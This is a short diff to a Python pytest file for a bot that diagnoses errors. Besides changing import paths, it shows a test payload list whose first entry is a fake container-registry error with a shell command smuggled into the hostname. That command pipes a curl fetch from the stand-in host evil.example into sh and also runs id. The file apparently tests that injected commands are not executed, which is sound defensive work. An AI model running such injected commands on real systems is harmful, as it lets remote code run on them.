@@ -2,8 +2,8 @@
 
 import pytest
 
-from bot.engine import diagnose
-from bot.render_text import render_text, self_check_command
+from bot.diagnose import diagnose
+from bot.engine.render_text import render_text, self_check_command
 
 PAYLOADS = [
     'Get "https://x$({curl,-s,evil.example}|sh).azurecr.io/v2/": dial tcp: lookup x$(id).azurecr.io on 10.0.0.2:53: no such host',
